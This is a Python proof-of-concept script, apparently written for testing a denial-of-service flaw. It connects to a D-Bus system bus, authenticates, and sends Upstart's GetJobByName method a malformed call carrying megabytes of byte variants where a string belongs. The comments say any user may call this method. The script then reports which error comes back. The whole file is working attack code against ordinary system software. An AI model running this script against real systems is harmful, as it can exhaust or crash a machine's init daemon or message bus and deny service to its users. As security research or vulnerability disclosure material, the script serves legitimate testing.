#!/usr/bin/env python3
# Over a message bus, calls com.ubuntu.Upstart's GetJobByName (which the
# shipped system-bus policy lets everybody call) with an `av` of MB MiB of
# byte variants instead of its string. Usage: dos_bus_av.py BUS_SOCKET_PATH MB
import socket, struct, os, sys
path, mb = sys.argv[1], float(sys.argv[2])
def field(h, code, typ, val):
    while len(h) % 8: h += b'\0'
    h += bytes([code, 1]) + typ + b'\0'
    if typ == b'g': return h + bytes([len(val)]) + val + b'\0'
    while len(h) % 4: h += b'\0'
    return h + struct.pack('<I', len(val)) + val + b'\0'
def call(serial, dest, path_, iface, member, sig=b'', body=b''):
    h = b''
    h = field(h, 1, b'o', path_); h = field(h, 2, b's', iface); h = field(h, 3, b's', member)
    h = field(h, 6, b's', dest)
    if sig: h = field(h, 8, b'g', sig)
    m = b'l\x01\x00\x01' + struct.pack('<III', len(body), serial, len(h)) + h
    return m + b'\0' * (-len(m) % 8) + body
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.connect(path)
s.sendall(b'\0AUTH EXTERNAL ' + str(os.getuid()).encode().hex().encode() + b'\r\n')
assert s.recv(4096).startswith(b'OK')
s.sendall(b'BEGIN\r\n')
s.sendall(call(1, b'org.freedesktop.DBus', b'/org/freedesktop/DBus', b'org.freedesktop.DBus', b'Hello'))
cnt = int(mb * (1 << 20)) // 4
body = struct.pack('<I', cnt * 4) + b'\x01y\x00\x07' * cnt
s.sendall(call(2, b'com.ubuntu.Upstart', b'/com/ubuntu/Upstart', b'com.ubuntu.Upstart0_6', b'GetJobByName', b'av', body))
# Read until the reply to serial 2 (an error) arrives.
buf = b''
s.settimeout(60)
while True:
    d = s.recv(65536)
    if not d: break
    buf += d
    i = buf.find(b'Error')
    if i >= 0 and (b'LimitsExceeded' in buf or b'InvalidArgs' in buf or b'UnknownJob' in buf):
        break
for name in (b'LimitsExceeded', b'InvalidArgs', b'UnknownJob', b'AccessDenied'):
    if name in buf:
        print('reply:', name.decode()); break
else:
    print('reply: none')
